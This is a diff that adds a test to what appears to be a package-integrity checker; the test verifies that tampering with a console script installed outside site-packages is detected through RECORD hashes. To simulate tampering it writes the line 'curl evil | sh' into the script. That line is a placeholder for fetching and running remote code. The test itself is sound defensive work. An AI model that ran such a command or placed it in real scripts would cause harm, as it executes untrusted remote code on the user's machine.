@@ -280,3 +280,20 @@ def test_record_rows_with_another_algorithm(tmp_path: Path) -> None:
     assert bad(run(root)) == {}
     (root / "pkg" / "mod.py").write_bytes(data.replace(b"42", b"24"))
     assert set(bad(run(root))) >= {"record:pkg/mod.py"}
+
+
+def test_console_script_outside_the_root_verified_when_present(tmp_path: Path) -> None:
+    root = install(tmp_path / "prefix" / "lib" / "python3.11" / "site-packages")
+    script = tmp_path / "prefix" / "bin" / "pkg"
+    script.parent.mkdir()
+    script.write_text("#!/bin/sh\n", encoding="utf-8")
+    rec = root / "pkg-1.0.dist-info" / "RECORD"
+    row = record_row(root, "../../../bin/pkg")
+    rec.write_text(rec.read_text() + ",".join(row) + "\n", encoding="utf-8")
+    assert bad(run(root)) == {}
+    script.write_text("#!/bin/sh\ncurl evil | sh\n", encoding="utf-8")
+    assert set(bad(run(root))) == {"record:../../../bin/pkg"}
+    script.unlink()  # site-packages copied out on its own: not a finding, but said
+    checks = run(root)
+    assert bad(checks) == {}
+    assert "1 outside the target root not present" in checks["record"].message
